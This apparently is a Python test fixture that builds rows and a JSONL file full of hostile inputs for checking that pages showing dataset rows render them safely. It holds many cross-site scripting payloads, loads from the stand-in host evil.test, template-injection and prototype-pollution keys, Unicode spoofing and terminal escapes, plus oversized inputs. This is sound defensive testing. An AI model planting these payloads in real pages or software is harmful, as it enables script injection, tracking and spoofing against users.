"""Rows that try whatever a text can try on who looks at it, for all pages that show rows.

`hostile_rows()` gives them, and `write_hostile(path)` makes a file of them. What they would do if they could: run a script (each sets
`window.pwned`, opens a dialog or asks a host for something), load something from `evil.test`, change how the page looks, hide what they are.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

__all__ = ["BIG", "TEXTS", "hostile_rows", "write_hostile"]

HOST = "evil.test"
BIG = 5_000_000
"""Letters of the largest cell."""

TEXTS = {
    "script": "<script>window.pwned = 1; alert(1)</script><script src=//evil.test/a.js></script>",
    "handlers": "<img src=x onerror=\"window.pwned=1\"><svg onload=alert(1)></svg><body onload=alert(1)><details ontoggle=alert(1) open>",
    "broken out": "\"><script>alert(1)</script> '><img src=x onerror=alert(1)> --></textarea></title></style></noscript><script>alert(1)</script>",
    "script addresses": "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java\tscript:alert(1)) [d](&#106;avascript:alert(1)) <javascript:alert(1)>",
    "data addresses": "[a](data:text/html,<script>alert(1)</script>) ![b](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+) [c](vbscript:x) [d](file:///etc/passwd)",
    "images": "![pixel](https://evil.test/pixel.png) ![a](//evil.test/b.png \"t\") <img src=https://evil.test/c.png srcset=https://evil.test/d.png>",
    "frames": "<iframe src=https://evil.test/></iframe><object data=https://evil.test/x></object><embed src=//evil.test/y><link rel=stylesheet href=//evil.test/z>",
    "forms": "<form action=https://evil.test/><input name=a autofocus onfocus=alert(1)><button>Send</button></form><base href=https://evil.test/>",
    "meta": "<meta http-equiv=refresh content='0;url=https://evil.test/'><meta http-equiv=Content-Security-Policy content=''>",
    "svg": "<svg><script>alert(1)</script><use href=https://evil.test/a.svg#x /><a xlink:href=javascript:alert(1)><text>x</text></a><animate onbegin=alert(1)></svg>",
    "mathml": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\"></mglyph></table></mtext></math>",
    "mathml link": "<math href=javascript:alert(1)><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "formulas": "$\\href{javascript:alert(1)}{x}$ $\\text{<img src=x onerror=alert(1)>}$ $\\style{background:url(https://evil.test/s)}{x}$ "
    "$\\class{away}{x}$ $\\color{\"><script>alert(1)</script>}x$ \\(\\unicode{x3cscript}\\) $$\\text{</math><script>alert(1)</script>}$$",
    "css": "<style>@import url(//evil.test/a.css); body { display: none }</style><p style='position:fixed;inset:0;background:url(//evil.test/b)'>x",
    "comments": "<!-- <script>alert(1)</script> --> <!--[if IE]><script>alert(1)</script><![endif]--> <![CDATA[<script>alert(1)</script>]]> <?php x ?>",
    "templates": "{{ 7 * 7 }} {% include 'x' %} ${7*7} #{7*7} <%= 7*7 %> {{ config.__class__.__init__.__globals__ }} [[${7*7}]]",
    "direction": "user\u202e\u2066txt.exe\u2069\u2066 // only\u2069 \u200fabc\u061c",
    "right to left": "שלום עולם (world) 123! مرحبا بالعالم، هذا نص.",
    "terminal": "\x1b[2J\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;https://evil.test\x07link\x1b]8;;\x07 \x9b31m \x08\x08\x00 \r over",
    "invisible": "pay\u200bpal \u2060x\ufeff \u00ad \U000e0041\U000e0042 \ufe0f\ufe0f a\u034fb \u3164 \u115f",
    "code": "```html\n<script>alert(1)</script>\n```\n```python\n\"\"\"</code></pre><script>alert(1)</script>\n```\n```\"><script>alert(1)</script>\nx\n```",
    "headings": "# h1\n## h2\n<h1>no</h1>\n\n| <b>a</b> | `b` |\n|---|---|\n| <script>alert(1)</script> | ![x](//evil.test/t.png) |",
    "references": "[x][1] ![y][1]\n\n[1]: javascript:alert(1) \"onmouseover=alert(1)\"\n[2]: https://evil.test/r.png\n\n![z][2]",
    "half a pair": "\ud800 and \udfff",
    "deep": "> " * 2_000 + "x",
    "brackets": "[" * 3_000 + "![" * 1_000,
    "long word": "w" * 6_000,
    "combining": "z" + "\u0335\u0321\u0353" * 400,
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &colon; &Tab;",
}  # fmt: skip


def hostile_rows() -> list[dict[str, Any]]:
    """Rows of many shapes."""
    tool = {"name": "<script>alert(1)</script>", "description": TEXTS["handlers"]}
    parameters = {
        "type": "object",
        "properties": {'"><img src=x onerror=alert(1)>': {"type": "<b>", "description": TEXTS["css"]}},
    }
    call = {"name": tool["name"], "arguments": '{"<svg onload=alert(1)>": "</code><script>alert(1)</script>"}'}
    nested: Any = "<script>alert(1)</script>"
    for number in range(150):
        nested = {f"<b>{number}</b>": [nested]}
    return [
        *({"text": text, "label": name, "uuid": f"hostile-{number}"} for number, (name, text) in enumerate(TEXTS.items())),
        {name: text for name, text in TEXTS.items() if len(text) < 1_000},
        {
            "messages": [
                {"role": "system", "content": TEXTS["script"]},
                {"role": "<script>alert(1)</script>", "content": TEXTS["images"], "name": TEXTS["handlers"]},
                {"role": "assistant", "content": "", "reasoning_content": TEXTS["script"], "tool_calls": [{"id": TEXTS["direction"], "type": "function", "function": call}]},
                {"role": "tool", "tool_call_id": TEXTS["direction"], "content": TEXTS["forms"]},
                {"role": "assistant", "content": [{"type": "text", "text": TEXTS["svg"]}, {"type": "image_url", "image_url": {"url": "https://evil.test/i.png"}}]},
            ],
            "tools": [{"type": "function", "function": {**tool, "parameters": parameters}}],
        },
        {"conversations": [{"from": "human", "value": TEXTS["meta"]}, {"from": "gpt", "value": f"<think>{TEXTS['frames']}</think>{TEXTS['css']}"}]},
        {"question": TEXTS["formulas"], "options": [TEXTS["script"], TEXTS["handlers"], "c"], "answer_index": 1},
        {"prompt": TEXTS["script"], "chosen": TEXTS["mathml"], "rejected": TEXTS["svg"], "chosen_model_id": TEXTS["broken out"]},
        {"chunk": f"a {TEXTS['script']} b", "evidence": [TEXTS["script"], TEXTS["css"]], "question": "q", "answer": TEXTS["data addresses"]},
        {"judgements": [{"judge": TEXTS["script"], "score": 1e308, "reason": TEXTS["images"]}], "score": -0.0},
        {"<script>alert(1)</script>": 1, "\" onmouseover=\"alert(1)": 2, "__proto__": {"polluted": True}, "constructor": {"prototype": {}}, "toString": "x"},
        {"metadata": {"topic": TEXTS["script"], "<img src=x onerror=alert(1)>": TEXTS["direction"]}, "text": "x", "model_id": TEXTS["broken out"], "language": TEXTS["script"]},
        {"nested": nested},
        {"numbers": [10**400, -(10**30), 1e-300, 0.1, True, None], "big": 12345678901234567890123},
        {"many": {f"k{number}": "<b>x</b>" for number in range(3_000)}},
        {"text": "<script>alert(1)</script> **b** " * (BIG // 32), "label": "big"},
        {},
    ]  # fmt: skip


def write_hostile(path: Path) -> Path:
    """A file of them, with lines at its end that are no JSON, or no row."""
    lines = [json.dumps(row) for row in hostile_rows()]
    lines += [
        "[" * 20_000 + "]" * 20_000,
        '{"text": <script>alert(1)</script>}',
        '["<script>alert(1)</script>"]',
        "null",
        '"<b>"',
        "12e999",
    ]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path
